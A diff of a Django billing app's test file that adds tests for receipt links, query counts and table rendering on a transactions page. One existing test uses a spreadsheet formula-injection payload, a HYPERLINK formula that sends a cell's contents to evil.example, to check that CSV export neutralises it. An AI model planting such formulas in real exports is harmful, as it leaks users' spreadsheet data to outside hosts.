@@ -2,13 +2,17 @@ import csv
 import re
 from decimal import Decimal
 
+import django_tables2 as tables
 import pytest
 from django.urls import reverse
+from django.utils import timezone
 
 from billing import services
 from billing.choices import AdminRole, CommerceModel, PurchaseChannel
-from billing.models import AutoRechargeChange, AutoRechargePolicy, Payment, PaymentMethod, SandboxCharge
+from billing.models import AutoRechargeChange, AutoRechargePolicy, LedgerEntry, Payment, PaymentMethod, SandboxCharge
 from billing.selectors import credit_account
+from billing.selectors import ledger_entries
+from billing.tables import LedgerEntryTable, TimeColumn
 from tests.factories import CardFactory, OrganizationFactory, admin_in
 
 pytestmark = pytest.mark.django_db(transaction=True)
@@ -174,6 +178,19 @@ def test_transactions_can_be_filtered_and_exported(client, billing_admin, funded
     assert funding[1:] == ["Funding", funding[2], "100.00", "100.00", "USD", receipt.number]
 
 
+def test_the_transactions_page_links_each_receipt_and_leaves_entries_without_one_blank(client, billing_admin, funded_account):
+    services.charge_usage(account_id=funded_account.pk, amount=Decimal("3.50"), idempotency_key="call-1", memo="Call to +44")
+    receipt = funded_account.receipts.get()
+    client.force_login(billing_admin)
+    table = client.get(reverse("billing:transactions")).content.decode().split("<tbody")[1].split("</tbody>")[0]
+    rows = table.split("</tr>")[:-1]
+    assert len(rows) == 2
+    link = f'<a href="{reverse("billing:receipt", args=[receipt.number])}">{receipt.number}</a>'
+    funding, = [row for row in rows if "Funding" in row]
+    charge, = [row for row in rows if "Call to +44" in row]
+    assert link in funding and "<a " not in charge
+
+
 def test_the_transactions_csv_writes_a_formula_in_a_description_as_text_and_amounts_as_numbers(client, billing_admin, funded_account):
     memo = '=HYPERLINK("https://evil.example/?"&A1,"Receipt")'
     services.charge_usage(account_id=funded_account.pk, amount=Decimal("3.50"), idempotency_key="call-1", memo=memo)
@@ -195,8 +212,12 @@ def test_the_credits_page_issues_a_bounded_number_of_queries(client, billing_adm
     client.force_login(billing_admin)
     with django_assert_max_num_queries(20):
         assert client.get(CREDITS).status_code == 200
-    with django_assert_max_num_queries(15):
-        assert client.get(reverse("billing:transactions")).status_code == 200
+    with django_assert_max_num_queries(15) as queries:
+        page = client.get(reverse("billing:transactions"))
+    assert page.status_code == 200
+    # Paged by the table alone: one COUNT (the view paged the same rows again, with a COUNT of its own).
+    assert len([q for q in queries.captured_queries if q["sql"].startswith("SELECT COUNT(")]) == 1
+    assert page.content.decode().split("<tbody")[1].count("<tr") == 25
 
 
 def test_saving_settings_that_would_charge_at_once_asks_first(client, billing_admin, card, org):
@@ -211,3 +232,36 @@ def test_saving_settings_that_would_charge_at_once_asks_first(client, billing_ad
     assert "was charged right away" in done.content.decode()
     account = credit_account(org)
     assert account.auto_recharge_policy.enabled and account.balance == Decimal("50.00")
+
+
+def test_the_time_column_shows_what_the_datetimecolumn_of_django_tables2_shows(funded_account):
+    class Both(tables.Table):
+        ours = TimeColumn(accessor="created_at", format="Y-m-d H:i")
+        theirs = tables.DateTimeColumn(accessor="created_at", format="Y-m-d H:i")
+
+    for zone in ("UTC", "America/Los_Angeles"):
+        with timezone.override(zone):
+            row = Both(LedgerEntry.objects.filter(account=funded_account)).rows[0]
+            assert str(row.get_cell("ours")) == str(row.get_cell("theirs")) != ""
+            assert row.get_cell_value("ours") == row.get_cell_value("theirs")
+
+
+def table_body(html):
+    """A table's <tbody>, with the whitespace that templates leave between tags and attributes removed."""
+    body = html[html.index("<tbody"):html.index("</tbody>") + len("</tbody>")]
+    return re.sub(r"\s+>", ">", re.sub(r">\s+<", "><", re.sub(r"\s+", " ", body)))
+
+
+def test_the_transactions_body_joined_in_python_is_the_body_django_tables2_renders(rf, billing_admin, funded_account, org):
+    services.charge_usage(account_id=funded_account.pk, amount=Decimal("3.50"), idempotency_key="call-1", memo="Call to <b>+44</b> & co")
+    services.charge_usage(account_id=funded_account.pk, amount=Decimal("1.25"), idempotency_key="call-2", memo="")
+    request = rf.get(reverse("billing:transactions"), {"sort": "amount"})
+    request.user = billing_admin
+    ours = LedgerEntryTable(ledger_entries(org))
+    theirs = LedgerEntryTable(ledger_entries(org), template_name="django_tables2/table.html")
+    for table in (ours, theirs):
+        tables.RequestConfig(request, paginate={"per_page": 25}).configure(table)
+    fast = table_body(ours.fast_tbody())
+    assert fast.count("<tr") == 3 and "&lt;b&gt;" in fast and "—" in fast and "/billing/receipts/" in fast
+    assert fast == table_body(theirs.as_html(request))
+    assert table_body(ours.as_html(request)) == fast, "the page's template uses it"
